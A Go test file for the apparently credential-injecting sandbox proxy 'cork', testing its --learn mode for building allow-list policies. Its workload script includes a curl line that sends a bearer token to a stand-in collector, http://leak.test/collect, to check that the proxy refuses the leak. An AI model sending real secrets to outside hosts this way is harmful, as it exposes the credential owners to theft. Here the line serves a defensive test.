package main

import (
	"context"
	"flag"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/cork-sh/cork/internal/testing/testenv"
	"github.com/cork-sh/cork/policy"
	"github.com/cork-sh/cork/provision"
	"github.com/cork-sh/cork/proxy"
)

func TestLearnFlagErrors(t *testing.T) {
	dir := t.TempDir()
	existing := filepath.Join(dir, "exists.yaml")
	if err := os.WriteFile(existing, []byte("allow: [a.test]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		args []string
		want string
	}{
		{"docker", []string{"run", "--backend", "docker", "--learn", "--inject", "api.test=API_TOKEN", "--", "true"},
			"cork: --learn: only for --backend local, smolvm or qemu, whose proxy runs inside cork\n"},
		{"kubernetes", []string{"run", "--backend", "kubernetes", "--learn", "--inject", "api.test=API_TOKEN", "--", "true"},
			"cork: --learn: only for --backend local, smolvm or qemu, whose proxy runs inside cork\n"},
		{"out without learn", []string{"run", "--learn-out", filepath.Join(dir, "x.yaml"), "--inject", "api.test=API_TOKEN", "--", "true"},
			"cork: --learn-out: only with --learn\n"},
		{"existing file", []string{"run", "--learn", "--learn-out", existing, "--inject", "api.test=API_TOKEN", "--", "true"},
			"cork: --learn-out " + existing + ": the file exists; remove it or name another (only the --policy file is learned into in place)\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			env := map[string]string{"HOME": t.TempDir(), "PATH": os.Getenv("PATH"), "API_TOKEN": "sk-REALxxxxxxxxxxxxxxxxxxxx"}
			code, _, errOut := runCork(t, env, tt.args...)
			if code != 2 || !strings.Contains(errOut, tt.want) {
				t.Errorf("cork %v = %d, stderr %q; want 2 and %q", tt.args, code, errOut, tt.want)
			}
		})
	}
}

func TestLearnNotWithAsk(t *testing.T) {
	for _, tt := range []struct {
		args []string
		want string
	}{
		{[]string{"--learn", "--ask"}, "--learn: not with --ask "},
		{[]string{"--learn", "--ask-url", "https://x.test/"}, "--learn: not with --ask-url "},
	} {
		fs := flag.NewFlagSet("run", flag.ContinueOnError)
		lf := newLearnFlags(fs)
		fs.Bool("ask", false, "")
		fs.String("ask-url", "", "")
		if err := fs.Parse(tt.args); err != nil {
			t.Fatal(err)
		}
		if _, err := lf.start("local", "", []string{"true"}, time.Now()); err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("start() after %v = %v, want %q", tt.args, err, tt.want)
		}
	}
}

func TestShellJoin(t *testing.T) {
	got := shellJoin([]string{"sh", "-c", "curl https://a.test/x && echo 'hi'", ""})
	want := `sh -c 'curl https://a.test/x && echo '\''hi'\''' ''`
	if got != want {
		t.Errorf("shellJoin() = %q, want %q", got, want)
	}
}

// learnWorkload is curl, git and Python requests against the fake
// upstreams: api.test and git.test are routed (--inject), open.test is
// unknown to the policy, and leak.test gets api.test's placeholder over
// plain HTTP (the tripwire refuses it: it must not be learned).
const learnWorkload = `set -e
auth="Authorization: Bearer $API_TOKEN"
curl -sSf -H "$auth" https://api.test/repos/o/r/issues/1 >/dev/null
curl -sSf -H "$auth" -X POST -d '{}' https://api.test/repos/o/r/pulls >/dev/null
curl -sSfk https://open.test/files/a.txt >/dev/null
curl -s -o /dev/null -w '%{http_code}\n' -H "$auth" http://leak.test/collect || true
work=$(mktemp -d)
git clone -q "https://x-access-token:$GIT_TOKEN@git.test/repo.git" "$work/clone"
test -f "$work/clone/README"
"$PYTHON" -c '
import os, requests
r = requests.get("https://api.test/user", headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]})
r.raise_for_status()
'
echo workload done
`

// TestRunLearn is --learn's "done when": the workload under --learn
// writes a policy with which the same workload passes under default deny
// without --learn, and the host it sent a placeholder to is not in it.
func TestRunLearn(t *testing.T) {
	sh := requireTool(t, "sh")
	requireTool(t, "curl")
	requireTool(t, "git")
	python := pythonWithRequests(t)
	u := startUpstreams(t)
	seedRepo(t, filepath.Join(u.repoDir, "repo.git"))
	leak := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		t.Errorf("leak.test reached: %s %s", r.Method, r.URL)
	}))
	t.Cleanup(leak.Close)

	dir := t.TempDir()
	out := filepath.Join(dir, "learned.yaml")
	env := map[string]string{
		"HOME": t.TempDir(), "PATH": os.Getenv("PATH"),
		"API_TOKEN": apiReal, "GIT_TOKEN": gitReal,
		"CORK_UPSTREAM_CA_FILE": u.caFile,
		"CORK_ALLOW_PRIVATE":    "127.0.0.0/8",
		"CORK_RESOLVE": "api.test:443=" + u.Addr() + ",git.test:443=" + u.Addr() + ",open.test:443=" + u.Addr() +
			",leak.test:80=" + strings.TrimPrefix(leak.URL, "http://"),
	}
	args := func(extra ...string) []string {
		a := []string{"run", "--quiet", "--backend", "local",
			"--inject", "api.test=API_TOKEN", "--inject", "git.test=GIT_TOKEN,scheme=basic,basic_user=x-access-token",
			"--env", "PYTHON=" + python}
		return append(append(a, extra...), "--", sh, "-c", learnWorkload)
	}

	// Default deny, without --learn: open.test is refused.
	if code, stdout, stderr := runCorkLogged(t, env, args()...); code == 0 {
		t.Fatalf("workload without a policy: exit 0, want a failure (stdout %q, stderr %q)", stdout, stderr)
	}

	code, stdout, stderr := runCorkLogged(t, env, args("--learn", "--learn-out", out)...)
	if code != 0 || !strings.Contains(stdout, "workload done") {
		t.Fatalf("workload under --learn: exit %d, stdout %q, stderr %q; want 0 and done", code, stdout, stderr)
	}
	for _, s := range []string{"cork: learned 4 allow entries for 3 hosts", "wrote " + out, "refused GET leak.test/collect (credential api_token): placeholder_leak"} {
		if !strings.Contains(stderr, s) {
			t.Errorf("--learn summary %q: want %q", stderr, s)
		}
	}
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatalf("read the learned policy: %v", err)
	}
	text := string(data)
	if strings.Contains(text, "leak.test") || strings.Contains(text, "REAL") {
		t.Errorf("learned policy holds leak.test or a token:\n%s", text)
	}
	if !strings.HasPrefix(text, "# cork run --learn: written ") {
		t.Errorf("learned policy has no header:\n%s", text)
	}
	g, err := provision.ParseGenericPolicy(data)
	if err != nil {
		t.Fatalf("ParseGenericPolicy(learned) = %v\n%s", err, text)
	}
	want := []policy.Allow{
		{Host: "open.test"},
		{Host: "api.test", Path: "/repos/o/r", Methods: []string{"GET", "POST"}},
		{Host: "api.test", Path: "/user", Methods: []string{"GET"}},
		{Host: "git.test", Path: "/repo.git", Methods: []string{"GET", "POST"}},
	}
	if !reflect.DeepEqual(g.Allow, want) {
		t.Errorf("learned allow = %v, want %v\n%s", g.Allow, want, text)
	}

	// The same workload under default deny with the learned policy.
	code, stdout, stderr = runCorkLogged(t, env, args("--policy", out)...)
	if code != 0 || !strings.Contains(stdout, "workload done") {
		t.Fatalf("workload with --policy %s: exit %d, stdout %q, stderr %q; want 0\n%s", out, code, stdout, stderr, text)
	}
}

// pythonWithRequests is a Python interpreter (not a pyenv shim, which
// needs the real home) that imports requests.
func pythonWithRequests(t *testing.T) string {
	t.Helper()
	requireTool(t, "python3")
	b, err := exec.Command("python3", "-c", "import sys, requests; print(sys.executable)").Output()
	if err != nil {
		requireTool(t, "python3 with requests")
	}
	return strings.TrimSpace(string(b))
}

// seedRepo puts one commit on main in the bare repository at bare.
func seedRepo(t *testing.T, bare string) {
	t.Helper()
	work := t.TempDir()
	if err := os.WriteFile(filepath.Join(work, "README"), []byte("hello\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, a := range [][]string{
		{"init", "-q", "-b", "main"},
		{"add", "README"},
		{"-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "one"},
		{"push", "-q", bare, "main"},
	} {
		cmd := exec.Command("git", a...)
		cmd.Dir = work
		if b, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", a, err, b)
		}
	}
}

func TestLearnerAnswers(t *testing.T) {
	tests := []struct {
		name string
		q    proxy.Question
		want proxy.Verdict
	}{
		{"unknown host", proxy.Question{Host: "a.test", Port: 443, Method: "CONNECT", Reason: proxy.ReasonNotAllowed}, proxy.VerdictAllow},
		{"unknown plain host", proxy.Question{Host: "a.test", Port: 80, Method: "GET", Path: "/x", Reason: proxy.ReasonNotAllowed}, proxy.VerdictAllow},
		{"method with a credential", proxy.Question{Host: "api.test", Port: 443, Method: "DELETE", Path: "/x", Reason: proxy.ReasonMethodNotAllowed, Slot: "api"}, proxy.VerdictDeny},
		{"path with a credential", proxy.Question{Host: "api.test", Port: 443, Method: "GET", Path: "/y", Reason: proxy.ReasonPathNotAllowed, Slot: "api"}, proxy.VerdictDeny},
		{"path without a credential", proxy.Question{Host: "docs.test", Port: 443, Method: "GET", Path: "/y", Reason: proxy.ReasonPathNotAllowed}, proxy.VerdictAllow},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var l learner
			if got := l.unlisted(context.Background(), tt.q); got != tt.want {
				t.Errorf("unlisted(%+v) = %v, want %v", tt.q, got, tt.want)
			}
		})
	}
}

// TestRunLearnIntoPolicy learns into the --policy file itself: its routes,
// comments and order stay, a method its route refuses stays refused (and
// is not learned), and the next run passes with the file alone.
func TestRunLearnIntoPolicy(t *testing.T) {
	sh := requireTool(t, "sh")
	requireTool(t, "curl")
	u := startUpstreams(t)
	pol := writePolicy(t, `# the team's policy
routes:
  - host: api.test   # the API
    env: API_TOKEN
    methods: [GET, POST]
allow: []
`)
	env := map[string]string{
		"HOME": t.TempDir(), "PATH": os.Getenv("PATH"), "API_TOKEN": apiReal,
		"CORK_UPSTREAM_CA_FILE": u.caFile,
		"CORK_ALLOW_PRIVATE":    "127.0.0.0/8",
		"CORK_RESOLVE":          "api.test:443=" + u.Addr() + ",open.test:443=" + u.Addr(),
	}
	const workload = `set -e
auth="Authorization: Bearer $API_TOKEN"
curl -sSf -H "$auth" https://api.test/v1/items/7 >/dev/null
code=$(curl -s -o /dev/null -w '%{http_code}' -H "$auth" -X DELETE https://api.test/v1/items/7)
test "$code" = 403
curl -sSfk https://open.test/ >/dev/null
echo workload done
`
	run := func(extra ...string) (int, string, string) {
		return runCorkLogged(t, env, append(append([]string{"run", "--quiet", "--backend", "local", "--policy", pol}, extra...), "--", sh, "-c", workload)...)
	}
	code, stdout, stderr := run("--learn", "--learn-out", pol)
	if code != 0 || !strings.Contains(stdout, "workload done") {
		t.Fatalf("workload under --learn: exit %d, stdout %q, stderr %q; want 0", code, stdout, stderr)
	}
	if !strings.Contains(stderr, "refused DELETE api.test/v1/items/7 (credential api_token): method_not_allowed") {
		t.Errorf("--learn summary %q: want the refused DELETE", stderr)
	}
	data, err := os.ReadFile(pol)
	if err != nil {
		t.Fatal(err)
	}
	text := string(data)
	for _, s := range []string{"# the team's policy", "# the API", "methods: [GET, POST]", "- open.test", "{host: api.test, path: /v1/items/7, methods: [GET]}"} {
		if !strings.Contains(text, s) {
			t.Errorf("learned policy lacks %q:\n%s", s, text)
		}
	}
	g, err := provision.ParseGenericPolicy(data)
	if err != nil {
		t.Fatalf("ParseGenericPolicy(learned) = %v\n%s", err, text)
	}
	want := []policy.Allow{{Host: "open.test"}, {Host: "api.test", Path: "/v1/items/7", Methods: []string{"GET"}}}
	if !reflect.DeepEqual(g.Allow, want) {
		t.Errorf("learned allow = %v, want %v (the refused DELETE not learned)\n%s", g.Allow, want, text)
	}
	if code, stdout, stderr := run(); code != 0 || !strings.Contains(stdout, "workload done") {
		t.Fatalf("workload with the learned policy: exit %d, stdout %q, stderr %q; want 0\n%s", code, stdout, stderr, text)
	}

	// Learning again keeps one header and adds nothing new.
	if code, _, stderr := run("--learn", "--learn-out", pol); code != 0 {
		t.Fatalf("second --learn: exit %d, stderr %q", code, stderr)
	}
	again, _ := os.ReadFile(pol)
	if n := strings.Count(string(again), "# cork run --learn: written"); n != 1 {
		t.Errorf("after a second --learn the file has %d headers, want 1:\n%s", n, again)
	}
	if strings.Count(string(again), "open.test") != 1 {
		t.Errorf("after a second --learn open.test is listed again:\n%s", again)
	}
}

// runCorkLogged is runCork with a stderr that the proxy's log and the
// command's stderr may write at once.
func runCorkLogged(t *testing.T, env map[string]string, args ...string) (int, string, string) {
	t.Helper()
	var stdout, stderr testenv.Buffer
	err := run(context.Background(), args, env, strings.NewReader(""), &stdout, &stderr)
	code := exitCode(err, &stderr)
	return code, stdout.String(), stderr.String()
}
